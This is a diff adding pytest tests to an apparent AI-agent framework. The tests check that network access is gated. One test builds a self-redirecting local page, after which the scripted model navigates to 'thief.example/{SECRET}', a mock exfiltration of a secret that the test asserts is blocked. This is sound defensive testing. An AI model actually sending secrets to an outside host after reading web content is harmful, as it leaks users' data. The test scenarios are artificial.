@@ -18,6 +18,7 @@ from typing import Any
 import pytest
 from langgraph.types import Command
 
+from manus.nodes.turn.notes import BROWSER_ALWAYS
 from manus.sqlite import SqliteStore
 from manus.state.profile import Profile
 from tests.browser.test_files import pdf
@@ -442,6 +443,42 @@ async def test_what_a_program_wants_is_asked_when_it_is_called_again(
     assert outcome.stop_reason == "answered"
     arrived = {"yes": ["new.example/a"], "run": ["new.example/a", "new.example/b"], "no": []}
     assert internet.at("new.example") == arrived[answer]
+
+
+async def test_another_program_is_not_asked_about(agent: ScriptedAgent, internet: Internet) -> None:
+    fetch = "import urllib.request\nurllib.request.urlopen('http://new.example/')"
+    fetches, counts = (call("python_execute", code=c) for c in (fetch, "print(6 * 7)"))
+    internet.pages = BENIGN
+    agent.server.script(call("web_search", query="kites"), fetches, counts, text("Done."))
+    outcome = await agent.run(request="All about kites.")
+    assert outcome.stop_reason == "answered"
+    _, held, counted = await agent.observations()
+    assert "host(new.example)" in held
+    assert counted.startswith("42")
+
+
+async def test_a_page_that_came_by_itself_is_one_that_was_read(
+    agent: ScriptedAgent, internet: Internet
+) -> None:
+    """It is only shown before a step; no call has led there."""
+    on = "<p>still here</p><script>setTimeout(() => location = 'http://news.example/plain', 9)"
+    agent.workspace.joinpath("on.html").write_text(f"{on}</script>")
+    internet.pages["news.example/plain"] = "<p>far away</p>"
+    looks = replace(PROFILE, extras={BROWSER_ALWAYS: True})
+    looking = ScriptedAgent(agent.server, agent.workspace, agent.saver, looks)
+    looked = itertools.count()
+
+    def model(request: Request) -> Message:
+        if "far away" in str(request.last):
+            return calls(go(f"thief.example/{SECRET}"))
+        return calls(bash(f"echo {next(looked)}"))
+
+    own = page("go_to_url", url=f"file://{agent.workspace}/on.html")
+    agent.server.script(own).always(model)
+    waiting = await looking.run(request="Look at it.")
+    assert waiting.stop_reason == "interrupted"
+    assert internet.at("thief.example") == []
+    await looking.graph.close_waiting()
 
 
 async def test_a_page_of_its_own_sends_nothing_along(
